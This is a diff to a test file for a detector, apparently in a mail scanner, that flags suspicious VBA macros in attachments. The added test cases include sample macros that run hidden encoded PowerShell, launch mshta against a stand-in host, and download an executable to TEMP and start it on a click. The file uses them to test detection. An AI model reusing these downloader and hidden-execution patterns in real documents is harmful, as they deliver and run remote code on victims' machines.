@@ -20,8 +20,53 @@ testDetector(eventStartedMacro, {
       mail: mail('Private Sub Frame1_Layout()\nActiveDocument.InlineShapes(1).OLEFormat.DoVerb\nEnd Sub'),
       finds: [{ message: 'startsAtEvent', values: { procedure: 'Frame1_Layout' }, weight: 10 }],
     },
+    {
+      name: 'hidden PowerShell behind a button: no business code has it, whatever starts it',
+      mail: mail('Sub CommandButton1_Click()\nShell "powershell -w hidden -enc QUFBQUFB", 0\nEnd Sub'),
+      finds: [{ message: 'waitsForClick', values: { means: 'shell' }, weight: 30 }],
+    },
+    {
+      name: 'the same where nothing is seen that starts it',
+      mail: mail('Sub Picture1()\nCreateObject("WScript.Shell").Run "mshta http://files.invalid/a", 0\nEnd Sub'),
+      finds: [{ message: 'waitsForClick', values: { means: 'WScript.Shell' }, weight: 30 }],
+    },
+    {
+      name: 'a program that is fetched, written and started behind a picture',
+      mail: mail(
+        'Sub Picture1_Click()\nSet h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nh.Send\nSet s = CreateObject("ADODB.Stream")\ns.Write h.responseBody\ns.SaveToFile Environ("TEMP") & "\\notreal.exe"\nShell Environ("TEMP") & "\\notreal.exe"\nEnd Sub',
+      ),
+      finds: [{ message: 'waitsForClick', weight: 30 }],
+    },
+    {
+      name: 'a link in a sheet that starts a hidden window',
+      mail: mail([
+        {
+          name: 'Sheet1',
+          kind: 'document',
+          source:
+            'Private Sub Worksheet_FollowHyperlink(ByVal Target As Hyperlink)\nCreateObject("WScript.Shell").Run "notreal /x", 0\nEnd Sub',
+        },
+      ]),
+      finds: [{ message: 'waitsForClick', weight: 30 }],
+    },
+    {
+      name: 'a button that starts a program in a window of its own, worth little',
+      mail: mail('Sub CommandButton1_Click()\nShell "C:\\nowhere\\scanner.exe", 1\nEnd Sub'),
+      finds: [{ message: 'waitsForClick', weight: 12 }],
+    },
   ],
   silent: [
+    {
+      name: 'a double click that opens the file which the cell names',
+      mail: mail([
+        {
+          name: 'Sheet1',
+          kind: 'document',
+          source:
+            'Private Sub Worksheet_BeforeDoubleClick(ByVal Target As Range, Cancel As Boolean)\nThisWorkbook.FollowHyperlink Target.Value\nEnd Sub',
+        },
+      ]),
+    },
     {
       name: 'a form that is laid out when it is shown',
       mail: mail([{ name: 'Form1', kind: 'form', source: 'Private Sub Frame1_Layout()\nx = 1\nEnd Sub' }]),
